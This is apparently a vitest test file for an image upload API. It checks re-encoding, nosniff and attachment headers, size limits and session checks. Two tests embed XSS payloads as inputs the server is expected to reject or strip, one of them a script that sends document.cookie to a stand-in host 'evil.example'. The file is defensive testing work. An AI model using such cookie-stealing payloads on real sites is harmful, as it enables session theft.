import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';

import { createTestApp, loginAs } from '../../../test/harness';
import { UPLOAD_MESSAGES } from './service';

const fakeJpeg = (size: number) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(size - 4, 1)]).toString('base64');
let realPng: Buffer;
let realJpeg: Buffer;
beforeAll(async () => {
  const pixels = { create: { width: 32, height: 24, channels: 3 as const, background: '#2a6' } };
  realPng = await sharp(pixels).png().toBuffer();
  realJpeg = await sharp(pixels).jpeg().toBuffer();
});

describe('POST /api/common/api/uploadBase64', () => {
  it('stores a real PNG and JPEG, re-encoded, that only the owner can read back as an image', async () => {
    const app = await createTestApp({ dataDir: '/tmp/pocket-test-uploads' });
    const a = await loginAs(app);
    const png = await a.call('POST', '/api/common/api/uploadBase64', { content: realPng.toString('base64') });
    expect(png.json.data).toMatchObject({ mime: 'image/png' });
    const jpeg = await a.call('POST', '/api/common/api/uploadBase64', { content: `data:image/jpeg;base64,${realJpeg.toString('base64')}` });
    expect(jpeg.json.data).toMatchObject({ mime: 'image/jpeg' });
    const read = await app.inject({ method: 'GET', url: png.json.data.url, headers: a.signedHeaders() });
    expect(read.statusCode).toBe(200);
    expect(read.headers['content-type']).toBe('image/png');
    expect(read.headers['x-content-type-options']).toBe('nosniff');
    expect(read.headers['content-disposition']).toBe('attachment; filename="upload.png"');
    expect((await sharp(read.rawPayload).metadata()).width).toBe(32);
  });

  it('refuses a PNG header followed by HTML and script (it does not decode)', async () => {
    const app = await createTestApp({ dataDir: '/tmp/pocket-test-uploads' });
    const a = await loginAs(app);
    const polyglot = Buffer.concat([realPng.subarray(0, 16), Buffer.from('<html><script>alert(document.cookie)</script></html>')]);
    const res = await a.call('POST', '/api/common/api/uploadBase64', { content: polyglot.toString('base64') });
    expect(res.json).toEqual({ code: 400, msg: UPLOAD_MESSAGES.notImage, data: null });
  });

  it('a real PNG with a script appended is stored and served without the script', async () => {
    const app = await createTestApp({ dataDir: '/tmp/pocket-test-uploads' });
    const a = await loginAs(app);
    const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
    const res = await a.call('POST', '/api/common/api/uploadBase64', { content: Buffer.concat([realPng, Buffer.from(script)]).toString('base64') });
    expect(res.json.code).toBe(200);
    const read = await app.inject({ method: 'GET', url: res.json.data.url, headers: a.signedHeaders() });
    expect(read.rawPayload.includes(Buffer.from('<script'))).toBe(false);
    expect(read.headers['x-content-type-options']).toBe('nosniff');
    expect((await sharp(read.rawPayload).metadata()).format).toBe('png');
  });

  it('refuses a file that is not JPEG or PNG whatever it claims, a fake JPEG, and one above 5 MB', async () => {
    const app = await createTestApp({ dataDir: '/tmp/pocket-test-uploads' });
    const a = await loginAs(app);
    const gif = Buffer.from('GIF89a....').toString('base64');
    const res = await a.call('POST', '/api/common/api/uploadBase64', { content: `data:image/png;base64,${gif}` });
    expect(res.json).toEqual({ code: 400, msg: UPLOAD_MESSAGES.notImage, data: null });
    const fake = await a.call('POST', '/api/common/api/uploadBase64', { content: fakeJpeg(1000) });
    expect(fake.json).toEqual({ code: 400, msg: UPLOAD_MESSAGES.notImage, data: null });
    const big = await a.call('POST', '/api/common/api/uploadBase64', { content: fakeJpeg(5 * 1024 * 1024 + 3) });
    expect(big.json.code).toBe(400);
    expect(big.json.msg).toContain('larger than 5 MB');
  });

  it('needs a session', async () => {
    const app = await createTestApp();
    const res = await app.inject({ method: 'POST', url: '/api/common/api/uploadBase64', payload: { content: realPng.toString('base64') } });
    expect(res.json().code).toBe(401);
  });
});
